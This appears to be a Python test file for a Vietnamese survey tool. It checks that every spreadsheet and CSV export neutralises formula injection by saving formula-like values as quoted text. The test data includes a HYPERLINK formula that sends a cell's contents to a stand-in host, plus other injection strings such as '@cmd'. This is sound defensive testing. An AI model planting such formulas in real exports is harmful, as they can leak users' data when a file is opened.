"""Every XLSX and CSV the product writes shows a formula-like name as text, never runs it
(survey/cells.py); numbers stay numbers. One test per core writer; the web downloads are
in tests/web/test_export_cells.py."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import openpyxl
import polars as pl
import pyarrow as pa
import xlsxwriter
from typer.testing import CliRunner

from phocap.cli import app
from phocap.reports.model import Column, Form, Row
from phocap.reports.xlsx import write_forms
from phocap.survey import cells
from phocap.survey.report import write_xlsx as write_report
from phocap.survey.validate import validate
from phocap.synth import writer
from phocap.synth.records import ARROW_SCHEMA

LINK = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'
SUM = "-1+2"
PACKAGE = Path(__file__).parent.parent.parent / "phocap"


def text_cells(book: Any, wanted: str) -> list[Any]:
    """Every cell holding ``wanted``; a formula cell would hold it too, as its formula."""
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row
            if c.value == wanted]


def assert_shown_not_run(path_or_bytes: Any, *values: str) -> None:
    source = io.BytesIO(path_or_bytes) if isinstance(path_or_bytes, bytes) else path_or_bytes
    book = openpyxl.load_workbook(source)
    for value in values:
        found = text_cells(book, value)
        assert found, value
        for cell in found:
            assert cell.data_type == "s", (value, cell.coordinate, cell.data_type)
            assert cell.quotePrefix, (value, cell.coordinate)


def test_plain_xlsxwriter_runs_such_a_name() -> None:
    """What the writers did before: the cell was a live formula."""
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer)
    book.add_worksheet().write(0, 0, LINK)
    book.close()
    cell = openpyxl.load_workbook(buffer).active["A1"]
    assert cell.data_type == "f"


def test_the_workbook_shows_text_and_keeps_numbers_and_formats() -> None:
    buffer = io.BytesIO()
    book = cells.Workbook(buffer)
    bold = book.add_format({"bold": True})
    sheet = book.add_worksheet("Tên")
    sheet.write(0, 0, LINK)
    sheet.write_row(1, 0, [SUM, -5, "@cmd", "\tx", "Nguyễn Văn A"])
    sheet.write_string(2, 0, "+1", bold)
    sheet.merge_range(3, 0, 3, 2, "=1+1", bold)
    book.close()
    assert_shown_not_run(buffer.getvalue(), LINK, SUM, "@cmd", "\tx", "+1", "=1+1")
    read = openpyxl.load_workbook(buffer).active
    assert read["B2"].value == -5 and read["B2"].data_type == "n"
    assert read["E2"].value == "Nguyễn Văn A" and not read["E2"].quotePrefix
    assert read["A3"].font.b and read["A4"].font.b  # the format kept beside the prefix


def test_polars_tables_written_into_the_workbook_show_text() -> None:
    """The people behind a criterion (register/views/units.py) are written this way."""
    buffer = io.BytesIO()
    book = cells.Workbook(buffer)
    pl.DataFrame({"Họ và tên": [LINK, SUM], "Năm sinh": [2010, -1]}).write_excel(book)
    book.close()
    assert_shown_not_run(buffer.getvalue(), LINK, SUM)
    assert openpyxl.load_workbook(buffer).active["B3"].value == -1


def test_csv_cells_get_an_apostrophe_and_numbers_stay() -> None:
    out = io.StringIO()
    cells.CsvWriter(out).writerows([[LINK, SUM, -1, 2.5, "@x", "\ty", "\rz", "Bình thường"]])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [
        "'" + LINK, "'" + SUM, "-1", "2.5", "'@x", "'\ty", "'\rz", "Bình thường"]


def test_the_validation_report_shows_the_faulty_row_as_text(tmp_path: Path,
                                                            fixtures: Path) -> None:
    rows = list(csv.reader((fixtures / "en.csv").open(encoding="utf-8")))
    header = rows[0]
    rows[1][header.index("full_name")] = LINK
    rows[1][header.index("birth_date")] = "31/02/2013"  # an error: the row is copied
    rows[2][header.index("village")] = SUM
    rows[2][header.index("sex")] = "XYZ"
    source = tmp_path / "ten.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    result = validate(source)
    out = tmp_path / "bao-cao.xlsx"
    write_report(result.report, source, out)
    assert_shown_not_run(out, LINK, SUM)


def test_the_forms_and_name_lists_show_text(tmp_path: Path) -> None:
    form = Form(code="DS-1", title="DANH SÁCH", year=2021, unit_code="03319",
                headings=("Xã: " + SUM, "@Thôn"),
                columns=(Column("stt", ("STT",)), Column("name", ("Họ và tên",)),
                         Column("village", ("Thôn",))),
                rows=(Row(label="1", values={"stt": 1, "name": LINK, "village": SUM}),),
                notes=("=1+1",))
    out = write_forms([form], tmp_path / "danh-sach.xlsx")
    assert_shown_not_run(out, LINK, SUM, "@Thôn", "=1+1")


def test_the_results_workbook_shows_unit_names_as_text(tmp_path: Path) -> None:
    units = tmp_path / "units.csv"
    units.write_text(
        "code,name,type,parent_code,especially_difficult\n11,@Tỉnh,province,,0\n"
        f"100,{SUM},district,11,0\n03319,\"{LINK.replace(chr(34), chr(34) * 2)}\",commune,100,0\n"
        "03322,Xã B,commune,100,0\n", encoding="utf-8")
    out = tmp_path / "ket-qua.xlsx"
    fixtures = Path(__file__).parent.parent / "fixtures" / "survey"
    result = CliRunner().invoke(app, ["evaluate", str(fixtures / "en.csv"), "--units",
                                      str(units), "--format", "xlsx", "--output", str(out)])
    assert result.exit_code == 0, result.output
    assert_shown_not_run(out, LINK, SUM, "@Tỉnh")


def batch_with(name: str, village: str) -> pa.RecordBatch:
    row: dict[str, Any] = {field.name: None for field in ARROW_SCHEMA}
    row.update(survey_year=2021, commune_code="03319", household_no="1", person_no=1,
               full_name=name, village=village)
    return pa.RecordBatch.from_pylist([row], schema=ARROW_SCHEMA)


def test_generated_files_show_text(tmp_path: Path) -> None:
    batch = batch_with(LINK, SUM)
    xlsx = tmp_path / "phieu.xlsx"
    writer.write_xlsx(xlsx, [batch])
    assert_shown_not_run(xlsx, LINK, SUM)
    csv_file = tmp_path / "phieu.csv"
    writer.write_csv(csv_file, [batch])
    written = list(csv.DictReader(csv_file.open(encoding="utf-8-sig")))
    assert (written[0]["full_name"], written[0]["village"]) == ("'" + LINK, "'" + SUM)
    assert written[0]["person_no"] == "1"
    units = tmp_path / "phieu.units.csv"
    writer.write_units(units, [writer.UnitRow("03319", SUM, "commune", "100", False)])
    assert "'" + SUM in units.read_text(encoding="utf-8-sig")


# Files phocap writes for itself, never for a person to open: the units package data
# (units/build.py, read back by units/registry.py) and the one-row survey file a page
# edit is checked through (register/checking.py, read back by the validator).
INTERNAL = {"units/build.py", "register/checking.py"}
RAW_WRITERS = re.compile(r"xlsxwriter\.Workbook\(|csv\.writer\(|\.write_excel\(\s*buffer"
                         r"|\.write_csv\(|openpyxl\.Workbook\(|pacsv\.CSVWriter\(")


def test_every_writer_goes_through_the_neutraliser() -> None:
    """A new XLSX or CSV writer that bypasses survey/cells.py fails here. Arrow's CSV
    writer is allowed where its batches pass through cells.csv_column first."""
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        name = str(path.relative_to(PACKAGE))
        if name == "survey/cells.py" or name in INTERNAL:
            continue
        source = path.read_text(encoding="utf-8")
        for match in RAW_WRITERS.finditer(source):
            if match.group(0) == "pacsv.CSVWriter(" and "csv_column(" in source:
                continue
            line = source[: match.start()].count("\n") + 1
            offenders.append(f"{name}:{line}: {match.group(0)}")
    assert offenders == []
